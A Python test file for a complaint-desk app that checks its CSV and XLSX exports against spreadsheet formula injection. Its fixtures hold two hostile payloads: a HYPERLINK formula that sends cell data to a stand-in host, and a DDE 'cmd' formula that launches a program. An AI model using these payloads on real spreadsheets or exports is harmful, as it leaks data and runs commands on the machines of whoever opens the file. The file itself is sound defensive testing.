"""A complaint typed by an attacker cannot run a formula in the supervisor's spreadsheet.

The attack: a title such as ``=HYPERLINK(...)`` went into the CSV export as
is, so opening the monthly report in a spreadsheet ran it; a 16-digit NIK
came out as a bare number (rounded by the spreadsheet) and the phone's
``+`` as a sign.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

from lapor_desktop.desk import Desk
from lapor_desktop.services.accounts import Principal
from lapor_desktop.services.context import Actor
from lapor_desktop.services.export_cells import FORMULA_STARTS, csv_cell, neutralise
from lapor_desktop.services.lookup import ComplaintQuery
from tests.support.samples import valid_form

FORMULA_TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")'
FORMULA_PLACE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _attack(desk: Desk, clerk: Actor) -> None:
    saved = desk.intake.submit(
        valid_form(title=FORMULA_TITLE, location_text=FORMULA_PLACE), actor=clerk
    )
    assert saved.queued, saved.issues


def test_csv_cells_that_look_like_formulas_get_an_apostrophe(
    desk: Desk, clerk: Actor, supervisor: Principal, tmp_path: Path
) -> None:
    _attack(desk, clerk)
    target = tmp_path / "bulan.csv"
    desk.exports.write(ComplaintQuery(), target, actor=supervisor.actor, with_identity=True)

    with target.open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))

    assert row["title"] == "'" + FORMULA_TITLE
    assert row["location_text"] == "'" + FORMULA_PLACE
    assert not any(value.startswith(FORMULA_STARTS) for value in row.values())
    assert row["nik"] == "'2104014508900001"
    assert row["phone"].startswith("'") and row["phone"].lstrip("'+").isdigit()


def test_xlsx_cells_are_text_never_formulas_and_nik_keeps_its_digits(
    desk: Desk, clerk: Actor, supervisor: Principal, tmp_path: Path
) -> None:
    _attack(desk, clerk)
    target = tmp_path / "bulan.xlsx"
    desk.exports.write(
        ComplaintQuery(), target, actor=supervisor.actor, with_identity=True, file_format="xlsx"
    )

    sheet = openpyxl.load_workbook(target).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))

    assert cells["title"].value == FORMULA_TITLE
    assert cells["title"].data_type == "s" and cells["title"].quotePrefix
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert cells["nik"].value == "2104014508900001" and cells["nik"].number_format == "@"
    assert isinstance(cells["phone"].value, str) and cells["phone"].number_format == "@"


def test_the_owasp_rule_covers_each_dangerous_first_character() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("Jalan rusak") == "Jalan rusak"
    assert csv_cell("phone", "+6281234567890") == "'+6281234567890"
    assert csv_cell("nik", "") == ""
    assert csv_cell("anonim", False) is False
